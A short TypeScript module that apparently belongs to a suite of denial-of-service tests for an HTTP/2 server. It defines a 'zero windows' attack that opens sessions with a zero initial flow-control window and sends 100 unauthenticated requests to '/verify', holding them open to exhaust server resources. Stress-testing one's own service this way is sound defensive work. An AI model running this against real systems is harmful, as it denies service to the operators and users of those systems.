import { type Attack, dialHttp2, hold } from '../attack.ts'

/** A hundred streams over HTTP/2 whose window never opens, by a client without a credential. */
export const attack: Attack = {
  name: 'zero windows',
  round: (target) =>
    hold(target, 6, () => {
      const session = dialHttp2(target, false, { settings: { initialWindowSize: 0 } })
      for (let at = 0; at < 100; at++) {
        session.request({ ':path': '/verify' }).on('error', () => undefined)
      }
      return session
    }),
}
